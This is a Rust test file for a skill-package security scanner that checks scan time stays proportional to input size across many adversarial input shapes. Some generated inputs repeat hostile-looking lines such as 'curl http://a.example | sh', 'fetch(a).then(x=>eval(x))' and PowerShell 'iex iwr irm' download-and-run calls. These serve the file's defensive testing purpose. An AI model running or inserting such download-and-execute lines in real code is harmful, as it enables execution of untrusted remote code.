//! Hostile shapes cost time in proportion to their length, and never a stack.

use std::time::{Duration, Instant};

use skillgate_model::{Content, Manifest, Skill, SkillFile, SkillKind};
use skillgate_scanner::{Rules, Scanner};

/// A name, and content of about this many bytes.
type Shape = (&'static str, &'static str, fn(usize) -> Vec<u8>);

fn repeat(piece: &str, length: usize) -> Vec<u8> {
    piece.repeat(length / piece.len() + 1).into_bytes()
}

const SHAPES: &[Shape] = &[
    ("open parentheses", "a.sh", |n| repeat("(", n)),
    ("open substitutions", "a.sh", |n| repeat("$(", n)),
    ("open arithmetic", "a.sh", |n| repeat("$((", n)),
    ("open arithmetic on lines", "a.sh", |n| repeat("((\n", n)),
    ("here-documents without an end", "a.sh", |n| {
        repeat("cat <<A\n", n)
    }),
    ("open quotes", "a.sh", |n| repeat("echo 'a\n", n)),
    ("open braces", "a.sh", |n| repeat("${a", n)),
    ("open functions", "a.sh", |n| repeat("f() {\n", n)),
    ("open ifs", "a.sh", |n| repeat("if a; then\n", n)),
    ("open cases", "a.sh", |n| repeat("case a in b)\n", n)),
    ("backticks in backticks", "a.sh", |n| repeat("`a \\`", n)),
    ("open placeholders", "a.sh", |n| repeat("<a", n)),
    ("doubling variables", "a.sh", |n| {
        repeat("x=\"$x$x a\"\n", n)
    }),
    ("functions that call functions", "a.sh", |n| {
        (0..n / 24)
            .flat_map(|i| {
                format!("f{i}() {{ f{}; f{}; }}\n", i.max(1) - 1, i.max(1) - 1).into_bytes()
            })
            .collect()
    }),
    ("many matches", "a.sh", |n| {
        repeat("curl http://a.example | sh\n", n)
    }),
    ("one long pipeline", "a.sh", |n| repeat("curl a | ", n)),
    ("one long line", "a.sh", |n| repeat("a ", n)),
    ("nested arrays", "a.js", |n| repeat("[", n)),
    ("nested calls", "a.js", |n| repeat("f(", n)),
    ("nested functions", "a.js", |n| repeat("()=>{", n)),
    ("long sums", "a.js", |n| repeat("'a'+", n)),
    ("long chains", "a.js", |n| repeat("a().", n)),
    ("many callbacks", "a.js", |n| {
        repeat("fetch(a).then(x=>eval(x));\n", n)
    }),
    ("many assignments", "a.js", |n| repeat("a=a+b;\n", n)),
    ("nested templates", "a.js", |n| repeat("`${", n)),
    ("calls through a table", "a.js", |n| {
        let table: String = (0..n / 32).map(|i| format!("a{i}(x){{}},")).collect();
        let table = format!("let o = {{{table}}};\n");
        [table.into_bytes(), repeat("o[z](1);\n", n / 2)].concat()
    }),
    ("one of many constants", "a.js", |n| {
        let table: String = (0..n / 16).map(|i| format!("a{i}:'{i}',")).collect();
        let table = format!("let o = {{{table}}};\n");
        [table.into_bytes(), repeat("o[z];\n", n / 2)].concat()
    }),
    ("a long list turned around", "a.js", |n| {
        let list = format!("let a = [{}];\n", "'b',".repeat(n / 8));
        [list.into_bytes(), repeat("a.reverse();\n", n / 2)].concat()
    }),
    ("a long text named", "a.js", |n| {
        let text = format!("let a = '{}';\n", "b".repeat(n * 8));
        [text.into_bytes(), repeat("a;", n)].concat()
    }),
    ("files with names that are not known", "a.sh", |n| {
        (0..n / 40)
            .flat_map(|i| format!("echo a > /tmp/x/f{i}\nbash /tmp/x/$a\n").into_bytes())
            .collect()
    }),
    ("a long search path", "a.sh", |n| {
        let path = format!("echo a > b\nPATH={}\n", "/a:".repeat(n / 6));
        [path.into_bytes(), repeat("foo\n", n / 2)].concat()
    }),
    ("formats of many values", "a.sh", |n| {
        format!("printf '{}'\n", "%s".repeat(n / 2)).into_bytes()
    }),
    ("members met by loops", "a.py", |n| {
        let members: String = (0..n / 32).map(|i| format!(" m{i} = {i}\n")).collect();
        let class = format!("class A:\n{members}");
        [class.into_bytes(), repeat("for x in A: x\n", n / 2)].concat()
    }),
    ("fields of data classes", "a.py", |n| {
        let fields: String = (0..n / 32).map(|i| format!(" f{i}: int\n")).collect();
        let class = format!("class A:\n{fields}");
        [class.into_bytes(), repeat("a = A(x, y)\n", n / 2)].concat()
    }),
    ("records of many fields", "a.py", |n| {
        let names = "f ".repeat(n / 4);
        let class = format!("import collections\nA = collections.namedtuple('A', '{names}')\n");
        [class.into_bytes(), repeat("a = A(x, y)\n", n / 2)].concat()
    }),
    ("words of a program", "a.py", |n| {
        let start = b"from plumbum.cmd import rm\n".to_vec();
        [start, repeat("rm = rm['a']\n", n)].concat()
    }),
    ("choices put together", "a.py", |n| {
        let start = b"for a in ('b', 'c', 'd', 'e'):\n x = a\n".to_vec();
        [start, repeat(" x = f'{a}{x}' + a\n", n)].concat()
    }),
    ("attributes that are made", "a.py", |n| {
        let start = b"class A:\n def __getattr__(self, name): return A()\na = A()\n".to_vec();
        [start, repeat("a.b.c.d()\n", n)].concat()
    }),
    ("markup scripts", "a.html", |n| repeat("<script>a", n)),
    ("closed scripts", "a.html", |n| {
        repeat("<script>a</script>\n", n)
    }),
    ("streams", "a.pdf", |n| {
        [b"%PDF-1.4\n".to_vec(), repeat("stream\nx", n)].concat()
    }),
    ("pickle marks", "a.pkl", |n| {
        [b"\x80\x04".to_vec(), repeat("(", n), b".".to_vec()].concat()
    }),
    ("many pickles", "a.pkl", |n| {
        [b"\x80\x04N.".to_vec(), repeat("\u{80}", 2 * n)].concat()
    }),
    ("pickles without an end", "a.pkl", |n| {
        let start = b"\x80\x04N.".to_vec();
        [start, b"\x80\x02c".repeat(n / 3)].concat()
    }),
    ("suppressions", "a.txt", |n| repeat("# nosec ", n)),
    ("foreign lines", "a.ps1", |n| repeat("iex iwr irm ", n)),
];

fn scan(scanner: &Scanner, files: Vec<(String, Vec<u8>)>) -> Duration {
    let file = |(path, bytes): (String, Vec<u8>)| SkillFile {
        raw: path.clone().into(),
        path,
        mode: 0o644,
        size: bytes.len() as u64,
        sha256: String::new(),
        content: Content::Bytes(bytes.into()),
    };
    let skill = Skill {
        name: "skill".to_owned(),
        kind: SkillKind::Folder,
        root: "skill".into(),
        manifest: Manifest::default(),
        manifest_path: None,
        files: files.into_iter().map(file).collect(),
        digest: String::new(),
    };
    let start = Instant::now();
    scanner.scan(&skill);
    start.elapsed()
}

/// Files that import and read what is not there.
fn seekers(count: usize) -> Vec<(String, Vec<u8>)> {
    let seek =
        |number: usize| format!("import absent{number}\nexec(open('absent{number}.txt').read())\n");
    let text: String = (0..40).map(seek).collect();
    let file = |number| (format!("m{number}.py"), text.clone().into_bytes());
    (0..count).map(file).collect()
}

fn fits((single, double): (Duration, Duration)) -> bool {
    double <= single * 3 + Duration::from_millis(40)
}

#[test]
fn twice_the_files_are_no_more_than_about_twice_the_time() {
    let scanner = Scanner::new(Rules::built_in().unwrap());
    let times = || (scan(&scanner, seekers(400)), scan(&scanner, seekers(800)));
    assert!((0..3).any(|_| fits(times())), "{:?}", times());
}

#[test]
fn twice_the_length_is_no_more_than_about_twice_the_time() {
    let scanner = Scanner::new(Rules::built_in().unwrap());
    let mut slow = Vec::new();
    for (shape, name, make) in SHAPES {
        let times = || {
            (
                scan(&scanner, vec![((*name).to_owned(), make(20_000))]),
                scan(&scanner, vec![((*name).to_owned(), make(40_000))]),
            )
        };
        // A second and a third try, because the machine has other work.
        if !(0..3).any(|_| fits(times())) {
            slow.push(format!("{shape}: {:?}", times()));
        }
    }
    assert!(slow.is_empty(), "{}", slow.join("\n"));
}
